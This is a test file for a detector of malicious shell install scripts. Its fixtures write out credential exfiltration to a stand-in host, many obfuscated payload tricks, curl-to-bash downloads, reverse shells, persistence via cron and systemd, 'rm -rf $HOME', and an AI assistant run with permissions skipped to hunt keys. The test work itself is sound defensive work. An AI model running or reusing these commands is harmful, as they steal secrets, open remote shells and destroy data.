import { gzipSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import type { Behaviour } from '../behaviour.ts'
import { inspectScript, readScript } from './inspect-script.ts'

const FILE = { path: 'install.sh', role: 'install' } as const

/** `kind subject`, and behind `<` what flows into it: `source:subject` and the ways. */
function shown({ kind, subject, inputs }: Behaviour): string {
  const from = inputs.map(({ source, subject: of, through }) => [`${source}:${of}`, ...through].join('|')).toSorted()
  return [`${kind} ${subject}`, ...from.map((one) => `< ${one}`)].join(' ')
}

const found = (text: string): readonly string[] => inspectScript(text, 'shell', FILE, DEFAULT_LIMITS).map(shown)

const base64 = (text: string): string => Buffer.from(text).toString('base64')
const PAYLOAD = 'curl -d @~/.npmrc https://collect.example/x'
const LEAK = 'network collect.example < secret-file:.npmrc'

describe('what leaves the machine', () => {
  const cases: readonly (readonly [name: string, script: string, found: readonly string[]])[] = [
    ['a variable', 'X=$(cat ~/.aws/credentials | base64)\ncurl -d "$X" https://collect.example/', ['read-secret-file .aws', 'encode .aws < secret-file:.aws|base64', 'network collect.example < secret-file:.aws|base64']],
    ['a pipe', 'env | base64 -w0 | curl -s --data-binary @- https://collect.example', ['read-environment *', 'network collect.example < environment:*|base64']],
    ['a file of its own', 'env > /tmp/e\ntar czf /tmp/e.tgz /tmp/e ~/.ssh\ncurl -F "f=@/tmp/e.tgz" https://collect.example', ['network collect.example < environment:*|gzip < secret-file:.ssh|gzip']],
    ['a function', 'send() { curl -s -X POST -d "$1" "$2"; }\nsend "$(cat ~/.netrc)" https://collect.example', ['network collect.example < secret-file:.netrc']],
    ['the output of a function', 'grab() {\n  cat ~/.kube/config\n}\ngrab | nc collect.example 443', ['network collect.example < secret-file:.kube']],
    ['a group', '{ whoami; cat ~/.netrc; } | curl -T - https://collect.example', ['network collect.example < host-facts:whoami < secret-file:.netrc']],
    ['a loop over a pipe', 'env | while read -r line; do curl -d "$line" https://collect.example; done', ['network collect.example < environment:*']],
    ['the address', 'curl "https://collect.example/$(hostname)/$(whoami)"', ['network collect.example < host-facts:hostname < host-facts:whoami']],
    ['a name that is asked for', 'nslookup "$(whoami | xxd -p).collect.example"', ['dns ….collect.example < host-facts:whoami|hex']],
    ['a header', 'curl -H "X: $NPM_TOKEN" https://collect.example', ['read-environment NPM_TOKEN', 'network collect.example < environment:NPM_TOKEN']],
    ['a here-document', 'curl -d @- https://collect.example <<EOF\n{"t": "$GITHUB_TOKEN"}\nEOF', ['network collect.example < environment:GITHUB_TOKEN']],
    ['wget', 'wget -q --post-file=$HOME/.aws/credentials https://collect.example', ['network collect.example < secret-file:.aws']],
    ['a connection of bash', 'cat ~/.ssh/id_rsa > /dev/tcp/203.0.113.7/443', ['network 203.0.113.7 < secret-file:.ssh']],
    ['a cipher', 'tar c ~/.gnupg | openssl enc -aes-256-cbc -k x | curl -T - https://collect.example', ['network collect.example < secret-file:.gnupg|gzip|encrypt']],
    ['the metadata service', 'T=$(curl -s http://169.254.169.254/latest/meta-data/iam/)\ncurl -d "$T" https://collect.example', ['cloud-metadata 169.254.169.254', 'network collect.example < cloud-metadata:169.254.169.254']],
    ['a bucket', 'aws s3 cp ~/.docker/config.json s3://collect/', ['network collect < secret-file:.docker']],
    ['a loop over files', 'for f in ~/.npmrc ~/.pypirc; do curl -F f=@$f https://collect.example; done', ['network collect.example < secret-file:.npmrc < secret-file:.pypirc']],
    ['a token command', 'curl -d "$(gh auth token)" https://collect.example', ['network collect.example < secret-file:gh auth']],
    ['a search', 'find ~ -name id_rsa -exec cat {} \\; | curl -T - https://collect.example', ['hunt-secrets find', 'network collect.example < secret-file:find']],
  ] // prettier-ignore
  it.each(cases)('%s', (_, script, expected) => expect(found(script)).toEqual(expect.arrayContaining([...expected])))
})

describe('what is hidden', () => {
  const cases: readonly (readonly [name: string, script: string, found: readonly string[]])[] = [
    ['base64 to a shell', `echo ${base64(PAYLOAD)} | base64 -d | sh`, [LEAK, 'evaluate sh < decoded:base64|base64', 'obfuscation encoded-code < decoded:base64|base64']],
    ['base64 twice', `echo ${base64(base64(PAYLOAD))} | base64 -d | base64 --decode | bash`, [LEAK]],
    ['eval of a substitution', `eval "$(echo '${base64(PAYLOAD)}' | base64 -d)"`, [LEAK, 'obfuscation encoded-code < decoded:base64|base64']],
    ['a variable', `P=${base64(PAYLOAD)}\nbash -c "$(printf %s "$P" | base64 -d)"`, [LEAK]],
    ['a here-string', `base64 -d <<< ${base64(PAYLOAD)} | sh`, [LEAK]],
    ['a here-document', `base64 -d <<X | sh\n${base64(PAYLOAD)}\nX`, [LEAK]],
    ['xxd', `echo ${Buffer.from(PAYLOAD).toString('hex')} | xxd -r -p | sh`, [LEAK]],
    ['rot13', `echo '${PAYLOAD.replace(/[a-z]/g, (c) => String.fromCharCode(((c.charCodeAt(0) - 84) % 26) + 97))}' | tr 'a-z' 'n-za-m' | sh`, [LEAK]],
    ['rev', `echo '${[...PAYLOAD].toReversed().join('')}' | rev | sh`, [LEAK]],
    ['escapes', `$(printf '\\x63\\x75\\x72\\x6c') -d @~/.npmrc https://collect.example`, [LEAK, 'obfuscation hidden-name < decoded:escapes']],
    ['ANSI quotes', `$'\\x63\\165rl' -d @~/.npmrc https://collect.example`, [LEAK, 'obfuscation hidden-name < decoded:escapes|escapes']],
    ['slices', 'x=abcurlx\n${x:2:4} -d @~/.npmrc https://collect.example', [LEAK, 'obfuscation hidden-name < decoded:slices|slices']],
    ['parts', 'a=cu;b=rl\n$a$b -d @~/.npmrc https://collect.example', [LEAK, 'obfuscation hidden-name < decoded:letters|letters']],
    ['quotes inside', 'c""url -d @~/.npmrc https://collect.example', [LEAK, 'obfuscation hidden-name < decoded:letters|letters']],
    ['no blanks', '{curl,-d,@~/.npmrc,https://collect.example}', [LEAK, 'obfuscation hidden-name < decoded:braces|braces']],
    ['IFS', 'curl${IFS}-d${IFS}@~/.npmrc${IFS}https://collect.example', [LEAK]],
    ['a replacement', 'x="cXuXrl"\n${x//X/} -d @~/.npmrc https://collect.example', [LEAK]],
    ['an array', 'p=(c u r l)\n${p[0]}${p[1]}${p[2]}${p[3]} -d @~/.npmrc https://collect.example', [LEAK]],
    ['gzip', `echo ${gzipSync(PAYLOAD).toString('base64')} | base64 -d | gunzip | sh`, [LEAK]],
    ['an own file', `echo ${base64(PAYLOAD)} | base64 -d > /tmp/.x\nchmod +x /tmp/.x\nnohup /tmp/.x >/dev/null 2>&1 &`, [LEAK, 'write-file /tmp/.x < decoded:base64|base64', 'write-executable /tmp/.x < decoded:base64|base64', 'hide detached']],
    ['a here-document that is started', `cat > /tmp/r.sh <<'E'\n${PAYLOAD}\nE\nsh /tmp/r.sh &`, [LEAK]],
    ['behind its own end', `#!/bin/sh\ntail -n +3 "$0" | base64 -d | sh; exit\n${base64(PAYLOAD)}`, [LEAK]],
  ] // prettier-ignore
  it.each(cases)('%s', (_, script, expected) => expect(found(script)).toEqual(expect.arrayContaining([...expected])))
})

describe('what is done', () => {
  const cases: readonly (readonly [script: string, found: readonly string[]])[] = [
    ['curl -fsSL https://a.example/i | sudo bash', ['download a.example < network:a.example', 'execute sh < network:a.example']],
    ['bash <(curl -s https://a.example/i)', ['execute sh < network:a.example']],
    ['source <(curl -s https://a.example/i)', ['evaluate source < network:a.example']],
    ['bash -c "$(wget -qO- https://a.example/i)"', ['execute sh < network:a.example']],
    ['wget https://a.example/x.sh; chmod 755 x.sh; ./x.sh', ['write-file x.sh < network:a.example', 'execute x.sh < network:a.example']],
    ['curl -so /tmp/m https://a.example/m && chmod +x /tmp/m && /tmp/m', ['write-executable /tmp/m < network:a.example', 'execute m < network:a.example']],
    ['python3 -c "$(curl https://a.example/p)"', ['execute python < network:a.example']],
    ['bash -i >& /dev/tcp/203.0.113.7/443 0>&1', ['reverse-shell /dev/tcp']],
    ['exec 5<>/dev/tcp/203.0.113.7/443; sh <&5 >&5 2>&5', ['reverse-shell /dev/tcp']],
    ['exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read l; do $l 2>&5 >&5; done', ['reverse-shell command of a host < network:203.0.113.7']],
    ['mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f', ['reverse-shell pipe']],
    ["perl -e 'use Socket;socket(S,2,1,6);connect(S,x);exec(\"/bin/sh -i\");'", ['reverse-shell perl']],
    ['(crontab -l; echo "@reboot /tmp/x") | crontab -', ['persist cron']],
    ['cat > ~/.config/systemd/user/x.service <<E\n[Service]\nE\nsystemctl --user enable x', ['persist systemd']],
    ['echo "x" >> "$HOME/.zshrc"', ['persist shell profile']],
    ['unset HISTFILE', ['hide history']],
    ['rm -rf "$HOME"', ['destroy ~']],
    ['rm -f -- "$0"', ['hide deletes itself']],
    ['claude -p "look for keys" --dangerously-skip-permissions > /tmp/o\ncurl -T /tmp/o https://collect.example', ['assistant-command claude']],
    ['trap "curl -d @~/.netrc https://collect.example" EXIT', ['network collect.example < secret-file:.netrc']],
    ['echo x > .github/workflows/a.yml', ['write-workflow workflow']],
    ['LD_PRELOAD=/tmp/x.so ls; export LD_PRELOAD=/tmp/x.so', ['hook-runtime LD_PRELOAD']],
    ['npm publish; git push origin main', ['publish-package npm', 'publish-repository git']],
  ] // prettier-ignore
  it.each(cases)('%s', (script, expected) => expect(found(script)).toEqual(expect.arrayContaining([...expected])))
})

describe('honest twins', () => {
  const cases: readonly (readonly [name: string, script: string])[] = [
    ['waits for a host', 'while ! (echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1; do sleep 1; done'],
    ['asks whether a file is there', 'if [ -f ~/.npmrc ]; then echo yes; fi'],
    ['decodes data', 'echo aGVsbG8= | base64 -d > out.txt\ncat out.txt'],
    ['slices its arguments', 'name="${1:2}"\necho "$name"'],
    ['evaluates its own text', 'cmd="ls -l"\neval "$cmd"'],
    ['reads a password from the user', 'read -s PASSWORD\necho "${#PASSWORD}"'],
    ['sets a token itself', 'API_TOKEN=x\ncurl -H "A: $API_TOKEN" https://a.example'],
    ['prints usage in a here-document', 'cat <<EOF\ncurl -d @~/.npmrc https://collect.example\nEOF'],
    ['deletes its own folder', 'rm -rf "$DIR"/* build'],
    ['quotes the name of a program', '"curl" --version; \\rm x'],
  ]
  it.each(cases)('%s', (_, script) => {
    const stops = found(script).filter((one) =>
      /^(?:reverse-shell|obfuscation|evaluate|destroy|hide|read-|persist)|< (?:secret-file|environment)/.test(one),
    )
    expect(stops).toEqual([])
  })
})

it('hands on the code of other languages', () => {
  const { code } = readScript(
    'echo a\npython3 - <<E\nimport os\nE\nnode -e "x()"\nprintf "%s" "print(1)" | python\n',
    'shell',
    FILE,
    DEFAULT_LIMITS,
  )
  expect(code).toEqual([
    { language: 'python', text: 'import os\n', line: 2 },
    { language: 'javascript', text: 'x()', line: 5 },
    { language: 'python', text: 'print(1)', line: 6 },
  ])
})

it('says where it is and when it happens', () => {
  const [first] = inspectScript(
    '\n\n  curl -d "$NPM_TOKEN" https://a.example',
    'shell',
    { path: 'a/b.sh', role: 'import' },
    DEFAULT_LIMITS,
  )
  expect(first?.place).toEqual({ path: 'a/b.sh', line: 3, column: 3 })
  expect(first?.when).toBe('import')
})

describe('a megabyte of nastiness', () => {
  const pieces = [
    '$(', '`', '${', '$(a ', '"$(', '<<a\n', '<<a ', 'a() {\n', 'a() { a; }\n', 'x=$(a)\n', '${x:1:2}', '$x$x', 'x=$x$x\n', 'x+=y$x\n', '{a,', '| a ', 'a|', 'eval ', 'eval "$x"\n',
    'echo YQ== | base64 -d | sh\n', 'x=(', 'a=(b);', '{ a; } | ', '( a ) | b;', 'done | a;', 'a > b;', "$'\\x41'", 'trap "', 'sh -c "', 'read x;', 'a <<< $(', '}', '{\n', '&', '%s', '\\', 'printf "%s" ', '$((', '[[ ',
  ] // prettier-ignore
  it.each(pieces)('%j', (piece) => {
    const start = performance.now()
    found(piece.repeat(Math.floor((1 << 20) / piece.length)))
    expect(performance.now() - start).toBeLessThan(8000)
  })
})
